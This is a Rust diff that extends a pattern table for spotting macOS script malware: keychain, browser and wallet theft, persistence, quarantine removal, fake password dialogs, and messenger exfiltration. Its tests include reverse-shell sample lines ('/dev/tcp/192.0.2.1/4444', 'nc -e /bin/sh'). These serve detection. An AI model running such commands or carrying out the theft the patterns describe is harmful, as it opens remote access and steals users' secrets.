@@ -2,48 +2,137 @@
 
 use std::sync::LazyLock;
 
-use regex::RegexSet;
+use regex::bytes::{RegexSet, RegexSetBuilder};
 
-/// Name, pattern (case does not count), and why it matters.
-const TABLE: [(&str, &str, &str); 16] = [
-    ("do shell script", r"do\s*shell\s*script", "runs a shell command"),
+/// Name, pattern (of bytes, and case does not count), and why it matters. AppleScript's spelling and JavaScript's
+/// are one indicator: `display dialog`, `displayDialog`.
+const TABLE: [(&str, &str, &str); 27] = [
+    ("do shell script", r"do\s*shell\s*script|\bNSTask\b", "runs a shell command"),
     ("curl", r"\b(?:curl|wget|nscurl)\b", "fetches with a command"),
     ("with administrator privileges", r"administrator\s*privileges", "asks for an administrator's password"),
     (
         "NSURLSession",
-        r"NSURL(?:Session|Connection|Request)|dataWithContentsOfURL|stringWithContentsOfURL",
+        r"NSURL(?:Session|Connection|Request)|(?:data|string|init)WithContentsOfURL",
         "fetches in the process itself",
     ),
-    ("eval", r"\beval\s*\(|\brun\s+script\b", "runs text that it makes or fetches"),
-    ("base64", r"base64|[A-Za-z0-9+/]{200,}={0,2}", "carries or decodes an encoded payload"),
-    ("hidden answer", r"hidden\s+answer", "asks for a password in a dialog of its own"),
-    ("display dialog", r"display\s+(?:dialog|alert)", "shows a dialog"),
-    ("clipboard", r"the\s+clipboard|\bpbpaste\b|NSPasteboard", "reads what was copied"),
-    ("keystroke", r"\bkeystroke\b|\bkey\s+code\b", "types for the user"),
+    ("eval", r"\beval\s*\(|\brun\s+script\b|\bnew\s+Function\s*\(", "runs text that it makes or fetches"),
+    (BASE64, r"base64", "carries or decodes an encoded payload"),
+    ("character codes", r"\bcharacter\s+id\b|\bASCII\s+character\b|\bfromCharCode\b", "spells text as numbers"),
+    ("hidden answer", r"hidden\s*answer", "asks for a password in a dialog of its own"),
+    ("display dialog", r"display\s*(?:dialog|alert)", "shows a dialog"),
+    ("password check", r"\bdscl\b.{0,64}authonly", "tests whether a password is right"),
+    ("clipboard", r"the\s*clipboard|\bpbpaste\b|NSPasteboard", "reads what was copied"),
+    ("keystroke", r"\bkeystroke\b|\bkey\s*code\b", "types for the user"),
     ("keychain", r"login\.keychain|\bsecurity\s+(?:find|dump|unlock)-", "reaches for stored passwords"),
     (
         "browser data",
         r"Login Data|Cookies\.binarycookies|cookies\.sqlite|Local Extension Settings",
         "reads browsers' secrets",
     ),
-    ("persistence", r"LaunchAgents|LaunchDaemons|login\s*item|\bcrontab\b", "stays after a restart"),
-    ("quarantine", r"com\.apple\.quarantine|\bspctl\b", "takes the mark of a download away"),
+    (
+        "wallets",
+        r"\bExodus\b|\bElectrum\b|Ledger\s*Live|\bTrezor\b|MetaMask|Coinomi|Atomic[/\s]*(?:Wallet|Local)|/wallets\b",
+        "reaches for cryptocurrency wallets",
+    ),
+    (
+        "persistence",
+        r"LaunchAgents|LaunchDaemons|login\s*item|\bcrontab\b|\blaunchctl\s+(?:load|bootstrap|submit)",
+        "stays after a restart",
+    ),
+    ("quarantine", r"com\.apple\.quarantine|\bspctl\b|\bxattr\s+-[a-z]*[cd]", "takes the mark of a download away"),
     ("osacompile", r"\bosa(?:compile|script)\b", "starts a further script"),
+    ("interpreter", r"\b(?:python[0-9.]*|perl|ruby|php|node)\s+-[ce]", "runs code of another language"),
+    ("/dev/tcp", r"/dev/(?:tcp|udp)/|\bnc(?:at)?\s+-|\bsocat\s", "opens a connection from the shell"),
+    ("mute", r"output\s*muted|set\s+volume\s+0\b", "silences the Mac"),
+    (
+        "hide Terminal",
+        r#"Terminal["'].{0,80}(?:\bvisible\b|\bclose\b|\bquit\b|\bhide\b|miniaturi[sz]ed)"#,
+        "hides the window that it runs in",
+    ),
+    ("archive", r"\bditto\s+-c|\bzip\s+-|\btar\s+-?c", "packs files up"),
+    ("system information", r"\bsystem_profiler\b|\bioreg\b|\bsw_vers\b", "looks at what Mac it is on"),
+    ("messenger", r"api\.telegram\.org|discord(?:app)?\.com/api/", "talks to a messenger's service"),
+    ("open location", r"\bopen\s*location\b|\bmount\s*volume\b", "opens an address in another program"),
     ("ObjC bridge", r"ObjC\.import|\$\.NS|use\s+framework", "calls system libraries"),
 ];
+const BASE64: &str = "base64";
+/// So many characters of base64 in a row are a payload.
+const BASE64_RUN: usize = 200;
+/// The states of the automaton, which is built as it is needed: too few, and it is thrown away again and again.
+const MAX_STATES_BYTES: usize = 8 << 20;
 
+// Without Unicode the automaton reads every byte once, whatever the text is made of.
 static SET: LazyLock<RegexSet> = LazyLock::new(|| {
-    let patterns = TABLE.iter().map(|(_, pattern, _)| format!("(?i){pattern}"));
+    let mut set = RegexSetBuilder::new(TABLE.iter().map(|(_, pattern, _)| pattern));
+    set.case_insensitive(true).unicode(false).dfa_size_limit(MAX_STATES_BYTES);
     // The table is constant, and a test compiles it.
-    RegexSet::new(patterns).unwrap_or_else(|_| RegexSet::empty())
+    set.build().unwrap_or_else(|_| RegexSet::empty())
 });
 
 /// The names of what the text shows, in the order of the table.
-pub(super) fn of(text: &str) -> Vec<&'static str> {
-    SET.matches(text).into_iter().map(|at| TABLE[at].0).collect()
+pub(super) fn of(text: &[u8]) -> Vec<&'static str> {
+    let found = SET.matches(text);
+    let has_run = has_base64_run(text);
+    let names = TABLE.iter().enumerate().map(|(at, (name, _, _))| (at, *name));
+    names.filter(|(at, name)| found.matched(*at) || *name == BASE64 && has_run).map(|(_, name)| name).collect()
+}
+
+fn has_base64_run(text: &[u8]) -> bool {
+    let is_base64 = |byte: &u8| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/');
+    text.split(|byte| !is_base64(byte)).any(|run| run.len() >= BASE64_RUN)
 }
 
 /// Why an indicator matters.
 pub fn reason(name: &str) -> Option<&'static str> {
     TABLE.iter().find(|(known, _, _)| *known == name).map(|(_, _, reason)| *reason)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn every_indicator_compiles_and_has_a_reason() {
+        assert_eq!(of(b"DO SHELL SCRIPT \"curl\" with administrator privileges").len(), 3);
+        assert_eq!(reason("curl"), Some("fetches with a command"));
+        assert_eq!(SET.len(), TABLE.len());
+    }
+
+    #[test]
+    fn both_spellings_of_a_command_are_seen() {
+        for (text, wanted) in [
+            ("app.displayDialog('P',{defaultAnswer:'',hiddenAnswer:true})", &["hidden answer", "display dialog"][..]),
+            ("display dialog \"P\" default answer \"\" with hidden answer", &["hidden answer", "display dialog"]),
+            ("a.theClipboard()", &["clipboard"]),
+            ("the clipboard", &["clipboard"]),
+            ("$.NSString.alloc.initWithContentsOfURLEncodingError(u,4,null)", &["NSURLSession", "ObjC bridge"]),
+            ("(new Function(s.js))()", &["eval"]),
+            ("$.NSTask.alloc.init", &["do shell script", "ObjC bridge"]),
+            ("set volume with output muted", &["mute"]),
+            ("app.setVolume(null, {outputMuted: true})", &["mute"]),
+            ("tell application \"Terminal\" to set visible of the front window to false", &["hide Terminal"]),
+            ("tell application \"Terminal\" to close first window", &["hide Terminal"]),
+            ("dscl . authonly ada x", &["password check"]),
+            ("dscl /Local/Default -authonly ada x", &["password check"]),
+            ("xattr -c /tmp/x; nohup /tmp/x &", &["quarantine"]),
+            ("/bin/sh &>/dev/tcp/192.0.2.1/4444 0>&1", &["/dev/tcp"]),
+            ("nc -e /bin/sh 192.0.2.1 4444", &["/dev/tcp"]),
+            ("{\"Exodus\", library & \"Exodus/\"}", &["wallets"]),
+            ("python3 -c 'import urllib.request'", &["interpreter"]),
+            ("run script (character id {100,111})", &["eval", "character codes"]),
+            ("String.fromCharCode(1,2)", &["character codes"]),
+            ("open location \"https://x\"", &["open location"]),
+            ("Terminal is a program. It was closed.", &[]),
+            ("tell me about the evaluation of tokens", &[]),
+        ] {
+            assert_eq!(of(text.as_bytes()), wanted, "{text}");
+        }
+    }
+
+    #[test]
+    fn a_run_of_base64_is_an_indicator_and_a_shorter_one_is_not() {
+        assert_eq!(of("é".repeat(10).as_bytes()), [""; 0]);
+        assert_eq!(of("A".repeat(199).as_bytes()), [""; 0]);
+        assert_eq!(of(["é", &"A/+9".repeat(50)].concat().as_bytes()), [BASE64]);
+    }
 }
